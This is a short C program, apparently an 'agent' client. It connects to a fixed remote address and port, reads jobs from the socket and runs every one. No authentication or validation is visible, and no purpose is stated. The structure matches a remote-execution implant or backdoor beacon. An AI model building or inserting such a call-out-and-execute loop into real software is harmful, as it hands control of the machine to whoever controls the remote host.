#include "agent.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

int main(void) {
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(9001)};
    peer.sin_addr.s_addr = inet_addr("192.0.2.90");
    int in = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(in, (struct sockaddr *)&peer, sizeof peer))
        return 1;
    for (struct job *job = jobs_read(in); job; job = job->next)
        job_run(job);
    return 0;
}
